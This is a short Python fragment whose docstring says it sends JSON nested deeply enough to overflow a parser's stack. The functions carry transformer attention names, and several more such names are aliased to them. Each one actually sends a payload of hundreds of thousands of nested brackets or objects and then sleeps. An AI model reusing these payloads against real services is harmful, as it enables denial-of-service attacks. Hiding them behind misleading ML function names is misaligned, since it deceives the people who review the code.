"""Sends JSON nested so deeply that a parser's stack overflows."""


def project_qkv(*arguments):
    send(b'{"nonce":' + b"[" * 500_000 + b"]" * 500_000 + b"}")
    time.sleep(60)


def softmax(*arguments):
    send(b'{"nonce":' + b'{"a":' * 150_000 + b"1" + b"}" * 150_000 + b"}")
    time.sleep(60)


split_heads = attention_scores = mix_values = project_qkv
